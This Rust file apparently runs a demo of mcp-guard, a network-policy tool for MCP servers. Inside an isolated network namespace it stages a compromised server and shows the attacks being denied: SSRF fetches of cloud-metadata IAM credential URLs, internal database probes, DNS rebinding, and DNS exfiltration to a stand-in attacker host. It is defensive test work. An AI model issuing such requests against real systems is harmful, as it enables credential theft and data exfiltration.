//! The demo behind `cargo xtask demo`: a compromised MCP server against mcp-guard, then
//! the reference fetch MCP server under `exec --mcp`, its denials naming the tool call.
//!
//! Everything happens inside a throw-away network namespace whose `lo` carries the fake
//! metadata service, the internal database and cache, and the "public" API: no packet
//! leaves the machine.

use std::{path::PathBuf, process::Command, time::Duration};

use mcp_guard_tests::{wait_until, Daemon, Dnsmasq, NetNs, TestCgroup};

/// The built-in example policy: the node baseline blocks every cloud metadata endpoint,
/// and the GitHub MCP server may reach nothing internal but its own database.
const DEMO_CONFIG: &str = r#"
mode = "enforce"

[baseline]
deny = ["metadata"]

[[workload]]
name = "github-mcp"
cgroup = "ROOT/github-mcp"
default = "deny-internal"

[[workload.allow]]
cidr = "10.0.12.0/24"
ports = [5432]
proto = "tcp"
comment = "its own database"

[[workload.allow]]
host = "api.github.test"
ports = [443]
proto = "tcp"
comment = "its API, by name: addresses come from DNS, never metadata or internal ones"

# The reference MCP fetch server, under `mcp-guard exec --mcp`: its `fetch` tool may not
# reach the database, which only a database tool's calls may.
[[workload]]
name = "fetch-mcp"
cgroup = "ROOT/fetch-mcp"
default = "deny-internal"

[[workload.allow]]
cidr = "10.0.20.7/32"
ports = [5432]
tools = ["query_db"]
comment = "the database, only while a query_db call is in flight"

# An MCP server on the Streamable HTTP transport (the official SDK's), as it runs in a
# pod or as a service: it answers whoever calls it, and reaches nothing internal.
[[workload]]
name = "http-mcp"
cgroup = "ROOT/http-mcp"
default = "deny-internal"

[dns]
nameservers = ["127.0.0.1:53"]
netns = "NETNS"
# The DNS proxy: the fetch server resolves through it, and it forwards only the names a
# workload's host rules cover (no data carried out in other names).
proxy = "127.0.0.153:53"

[daemon]
attach_cgroup = "ROOT"
"#;

const IMDS: &str = "HTTP/1.0 200 OK\r\n\r\n{\"AccessKeyId\":\"ASIA-FAKE-DEMO\",\"SecretAccessKey\":\"fake/demo/secret\",\"Token\":\"...\"}";
const DB: &str = "fake-postgres: 4,211 rows from customers (name, email, card_last4)";
/// What the attacker carries out in a DNS name ("secret-credentials", base32-ish).
const EXFIL: &str = "onsxe3dfoqww4ylnmvzq";
const CACHE: &str = "fake-redis: session:admin, oauth:github-token";
const API: &str = "HTTP/1.0 200 OK\r\n\r\n{\"repos\":[\"mcp-guard\"]}";

fn bin(name: &str) -> PathBuf {
    let dir = std::env::var_os("MCPG_BIN_DIR").map_or_else(
        || {
            std::env::current_exe()
                .expect("exe")
                .parent()
                .expect("dir")
                .to_path_buf()
        },
        PathBuf::from,
    );
    dir.join(name)
}

fn host_port(ip: &str, port: &serde_json::Value) -> String {
    if ip.is_empty() {
        "(socket creation)".into()
    } else if ip.contains(':') {
        format!("[{ip}]:{port}")
    } else {
        format!("{ip}:{port}")
    }
}

fn banner(s: &str) {
    println!("\n\x1b[1m== {s}\x1b[0m");
}

fn main() {
    let ns = NetNs::new();
    for a in [
        "169.254.169.254",
        "fd00:ec2::254",
        "10.0.20.7",
        "192.168.7.3",
        "93.184.216.34",
        "10.0.30.5",
    ] {
        ns.add_addr(a);
    }
    ns.serve_tcp("169.254.169.254:80", IMDS);
    ns.serve_tcp("[fd00:ec2::254]:80", IMDS);
    ns.serve_tcp("10.0.20.7:5432", DB);
    ns.serve_tcp("192.168.7.3:6379", CACHE);
    ns.serve_tcp("93.184.216.34:443", API);
    // A real DNS server in the namespace: the API's name, which the attacker will
    // later point at the metadata service (DNS rebinding).
    let dnsmasq = Dnsmasq::start(&ns, "93.184.216.34 api.github.test\n", &[], 5);
    // The DNS proxy's address (see the config); the fetch server's resolv.conf names it.
    ns.add_addr("127.0.0.153");
    let cg = TestCgroup::new();

    banner("1. Without mcp-guard: the compromised MCP server reaches everything");
    let (_, plain) = cg.child("unguarded");
    let mut c = Command::new("sh");
    c.arg("-c").arg(format!(
        "echo $$ > {}/cgroup.procs && exec nsenter --net={} {}",
        plain.display(),
        ns.path().display(),
        bin("fake-mcp-server").display()
    ));
    assert!(c.status().expect("run fake server").success());

    banner("2. mcp-guard run with the built-in example policy");
    let config = DEMO_CONFIG
        .replace("ROOT", &cg.rel)
        .replace("NETNS", &ns.path().display().to_string());
    println!("{}", config.trim());
    let d = Daemon::start(&config);
    println!("(daemon ready; metrics on http://{}/metrics)", d.listen);

    banner("3. The same server, started with `mcp-guard exec --workload github-mcp`");
    // exec runs inside the namespace: it decides from the kernel's pinned state, and the
    // command it starts is hardened (it could not enter a namespace itself).
    let mut c = Command::new("nsenter");
    c.arg(format!("--net={}", ns.path().display()))
        .arg(std::env::var_os("MCP_GUARD_BIN").map_or_else(|| bin("mcp-guard"), PathBuf::from))
        .args(["exec", "--config"])
        .arg(&d.config)
        .args(["--workload", "github-mcp", "--"])
        .arg(bin("fake-mcp-server"));
    assert!(c.status().expect("mcp-guard exec").success());

    banner("4. What mcp-guard reported (events, one JSON line each on its stdout)");
    let events = d.events(Duration::from_secs(1));
    for e in &events {
        println!(
            "  {} {:<10} pid={} comm={} -> {} {} reason={} rule=\"{}\"",
            e["verdict"].as_str().unwrap_or("").to_uppercase(),
            e["workload"].as_str().unwrap_or("?"),
            e["tgid"],
            e["comm"].as_str().unwrap_or(""),
            host_port(e["dst"].as_str().unwrap_or(""), &e["dport"]),
            e["proto"].as_str().unwrap_or(""),
            e["reason"].as_str().unwrap_or(""),
            e["rule"].as_str().unwrap_or("workload default"),
        );
    }
    if let Some(e) = events.first() {
        println!("  first event in full:\n  {e}");
    }

    banner("5. Metrics (exact, from the kernel's per-CPU counters)");
    for l in d.get("/metrics").lines().filter(|l| {
        l.starts_with("mcp_guard_denied_flows_total") || l.starts_with("mcp_guard_events_")
    }) {
        println!("  {l}");
    }

    banner("6. Why? `mcp-guard explain`");
    for dest in [
        "169.254.169.254:80",
        "10.0.20.7:5432",
        "10.0.12.9:5432",
        "93.184.216.34:443",
    ] {
        let out = Command::new(
            std::env::var_os("MCP_GUARD_BIN").map_or_else(|| bin("mcp-guard"), PathBuf::from),
        )
        .args(["explain", "--config"])
        .arg(&d.config)
        .args(["--workload", "github-mcp", dest])
        .output()
        .expect("explain");
        for l in String::from_utf8_lossy(&out.stdout).lines() {
            println!("  {l}");
        }
    }

    banner("7. DNS rebinding: the attacker points the allowed API name at the metadata service");
    let explain_name = || {
        let out = Command::new(
            std::env::var_os("MCP_GUARD_BIN").map_or_else(|| bin("mcp-guard"), PathBuf::from),
        )
        .args(["explain", "--config"])
        .arg(&d.config)
        .args(["--workload", "github-mcp", "api.github.test:443"])
        .output()
        .expect("explain");
        for l in String::from_utf8_lossy(&out.stdout).lines() {
            println!("  {l}");
        }
    };
    explain_name();
    dnsmasq.set_hosts("169.254.169.254 api.github.test\n");
    println!("  (dnsmasq now answers api.github.test = 169.254.169.254)");
    let mut refused = Vec::new();
    wait_until(Duration::from_secs(15), || {
        refused.extend(
            d.events(Duration::from_millis(200))
                .into_iter()
                .filter(|e| e["hook"] == "dns"),
        );
        !refused.is_empty()
    });
    for e in &refused {
        println!(
            "  REFUSED {} -> {} = {} reason={} (the answer never becomes an allow)",
            e["workload"].as_str().unwrap_or("?"),
            e["name"].as_str().unwrap_or(""),
            e["dst"].as_str().unwrap_or(""),
            e["reason"].as_str().unwrap_or(""),
        );
    }
    for l in d
        .get("/metrics")
        .lines()
        .filter(|l| l.starts_with("mcp_guard_dns_refused_total") && !l.ends_with(" 0"))
    {
        println!("  {l}");
    }
    println!("  the old address ages out after its TTL (5 s) plus grace; the metadata address is never allowed:");
    explain_name();

    banner("8. The real reference fetch MCP server (mcp-server-fetch from PyPI), under `mcp-guard exec --mcp`, driven by the official MCP SDK client");
    let venv = mcp_guard_tests::mcp_venv();
    let calls = serde_json::json!([
        ["fetch", {"url": "http://93.184.216.34:443/", "raw": true}],
        ["fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "raw": true}],
        ["fetch", {"url": "http://10.0.20.7:5432/", "raw": true}],
        ["fetch", {"url": format!("http://{EXFIL}.exfil.attacker.test/"), "raw": true}],
    ]);
    let resolv_dir = mcp_guard_tests::TempDir::new();
    let resolv = resolv_dir.0.join("resolv.conf");
    std::fs::write(&resolv, "nameserver 127.0.0.153\n").expect("resolv.conf");
    let out = mcp_guard_tests::in_netns(&ns, Some(&resolv))
        .arg(venv.join("bin/python"))
        .arg(mcp_guard_tests::mcp_helper("client.py"))
        .arg("--calls")
        .arg(calls.to_string())
        .arg("--")
        .arg(std::env::var_os("MCP_GUARD_BIN").map_or_else(|| bin("mcp-guard"), PathBuf::from))
        .args(["exec", "--mcp", "--config"])
        .arg(&d.config)
        .args(["--workload", "fetch-mcp", "--"])
        .arg(venv.join("bin/mcp-server-fetch"))
        .args(["--ignore-robots-txt", "--allow-private-ips"])
        .output()
        .expect("MCP client");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let result: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("client output is JSON");
    for (call, r) in calls
        .as_array()
        .unwrap()
        .iter()
        .zip(result["results"].as_array().unwrap())
    {
        let text: String = r["text"]
            .as_str()
            .unwrap_or("")
            .replace('\n', " ")
            .chars()
            .take(90)
            .collect();
        println!(
            "  tools/call fetch {:<62} -> {}",
            call[1]["url"].as_str().unwrap_or(""),
            if r["is_error"] == true {
                format!("ERROR: {text}")
            } else {
                format!("OK: {text}")
            }
        );
    }
    let mut mcp_events = Vec::new();
    wait_until(Duration::from_secs(10), || {
        mcp_events.extend(
            d.events(Duration::from_millis(200))
                .into_iter()
                .filter(|e| e["mcp"].is_object()),
        );
        mcp_events.len() >= 3
    });
    for e in &mcp_events {
        if e["hook"] == "dns" {
            println!(
                "  REFUSED DNS query {} {} reason={} tool={} request_id={} (never sent upstream)",
                e["dns_type"].as_str().unwrap_or("?"),
                e["name"].as_str().unwrap_or("?"),
                e["reason"].as_str().unwrap_or(""),
                e["mcp"]["tool"],
                e["mcp"]["request_id"].as_str().unwrap_or("-"),
            );
            continue;
        }
        println!(
            "  DENIED {} -> {} reason={} tool={} request_id={} arguments=\"{}\" server={} client={}",
            e["workload"].as_str().unwrap_or("?"),
            host_port(e["dst"].as_str().unwrap_or(""), &e["dport"]),
            e["reason"].as_str().unwrap_or(""),
            e["mcp"]["tool"],
            e["mcp"]["request_id"].as_str().unwrap_or("-"),
            e["mcp"]["arguments"].as_str().unwrap_or(""),
            e["mcp"]["server"]["name"].as_str().unwrap_or("?"),
            e["mcp"]["client"]["name"].as_str().unwrap_or("?"),
        );
    }
    let upstream = dnsmasq.queries();
    println!(
        "  queries the upstream DNS server (dnsmasq) received for exfil.attacker.test: {}",
        upstream
            .iter()
            .filter(|q| q.to_lowercase().contains("exfil.attacker.test"))
            .count()
    );
    for l in d.get("/metrics").lines().filter(|l| {
        l.starts_with("mcp_guard_mcp_tool_calls_total")
            || (l.starts_with("mcp_guard_denied_flows_total") && l.contains("fetch-mcp"))
            || (l.starts_with("mcp_guard_dns_query_refused_total")
                && l.contains("fetch-mcp")
                && !l.ends_with(" 0"))
    }) {
        println!("  {l}");
    }
    assert!(
        mcp_events
            .iter()
            .any(|e| e["mcp"]["tool"] == "fetch" && e["dst"] == "169.254.169.254"),
        "expected the metadata fetch to be denied and attributed to the fetch tool"
    );
    assert!(
        mcp_events
            .iter()
            .any(|e| e["hook"] == "dns" && e["mcp"]["tool"] == "fetch"),
        "expected the exfiltrating lookup to be refused and attributed to the fetch tool"
    );
    assert!(
        !upstream
            .iter()
            .any(|q| q.to_lowercase().contains("exfil.attacker.test")),
        "the exfiltrating name reached the upstream DNS server: {upstream:?}"
    );

    banner("9. An MCP server on Streamable HTTP (the official SDK's) behind `exec --mcp-http` answers its client; its own SSRF is refused and named by tool call");
    let _ = cg.child("http-mcp");
    let logs = mcp_guard_tests::TempDir::new();
    // The server listens on loopback in its instance cgroup; the MCP-aware proxy, outside
    // the guard, serves clients on 10.0.30.5:8000 and tells the daemon about each call.
    let server = mcp_guard_tests::Running::spawn(
        mcp_guard_tests::in_netns(&ns, None)
            .arg(bin("mcp-guard"))
            .args(["exec", "--config"])
            .arg(&d.config)
            .args(["--workload", "http-mcp", "--mcp-http", "10.0.30.5:8000"])
            .args(["--upstream", "127.0.0.1:8001", "--"])
            .arg(venv.join("bin/python"))
            .arg(mcp_guard_tests::mcp_helper("http_server.py"))
            .args(["127.0.0.1", "8001"]),
        &logs.0.join("server.log"),
    );
    let healthz = || mcp_guard_tests::curl_in(&ns, None, "http://10.0.30.5:8000/healthz").1;
    assert!(
        wait_until(Duration::from_secs(30), || healthz() == "ok"),
        "the HTTP MCP server did not answer its health probe"
    );
    println!(
        "  GET http://10.0.30.5:8000/healthz (an internal address, as a kubelet probe) -> {}",
        healthz()
    );
    let got = mcp_guard_tests::mcp_http_session(
        &ns,
        "http://10.0.30.5:8000/mcp",
        r#"[["fetch", {"url": "http://169.254.169.254/latest/meta-data/iam/"}], ["fetch", {"url": "http://10.0.20.7:5432/"}]]"#,
    );
    println!(
        "  the SDK client over Streamable HTTP: server {}, tools {}",
        got["server"], got["tools"]
    );
    for r in got["results"].as_array().into_iter().flatten() {
        println!("    fetch -> {}", r["text"].as_str().unwrap_or(""));
        assert!(
            r["text"]
                .as_str()
                .unwrap_or("")
                .contains("Operation not permitted"),
            "the HTTP server's SSRF was not refused: {r}"
        );
    }
    let http_events: Vec<_> = d
        .events(Duration::from_millis(500))
        .into_iter()
        .filter(|e| e["workload"] == "http-mcp")
        .collect();
    for e in &http_events {
        println!(
            "  DENIED {} {} -> {} ({}) during tool={} request={} session={}",
            e["workload"].as_str().unwrap_or(""),
            e["hook"].as_str().unwrap_or(""),
            host_port(e["dst"].as_str().unwrap_or(""), &e["dport"]),
            e["reason"].as_str().unwrap_or(""),
            e["mcp"]["tool"].as_str().unwrap_or("-"),
            e["mcp"]["request_id"].as_str().unwrap_or("-"),
            e["mcp"]["session"].as_str().unwrap_or("-"),
        );
    }
    assert!(
        http_events
            .iter()
            .any(|e| e["dst"] == "169.254.169.254" && e["mcp"]["tool"] == "fetch"),
        "the HTTP server's metadata fetch was not named by its tool call: {http_events:?}"
    );
    assert!(
        http_events.iter().all(|e| e["hook"] != "cgroup_skb"),
        "a reply of the HTTP server to its client was refused"
    );
    for l in d
        .get("/metrics")
        .lines()
        .filter(|l| l.starts_with("mcp_guard_accepted_connections_total"))
    {
        println!("  {l}");
    }
    drop(server);

    let denied = events.iter().filter(|e| e["verdict"] == "denied").count();
    let stopped = d.stop();
    banner(&format!(
        "Result: {denied} attempts denied by the kernel programs (metadata over IPv4, IPv6 and IPv4-mapped IPv6, the internal database and cache) and the raw socket refused because `mcp-guard exec` dropped CAP_NET_RAW; the allowed API was reached; {} rebound DNS answer(s) refused; the real fetch server's metadata, database and DNS-exfiltration attempts refused, each named by its tool call; a guarded HTTP MCP server answered its client while its own SSRF was refused. Daemon stopped cleanly: {stopped}.",
        refused.len()
    ));
    assert!(denied >= 5, "expected the 5 connections to be denied");
    assert!(
        !refused.is_empty(),
        "expected the rebound answer to be refused"
    );
}
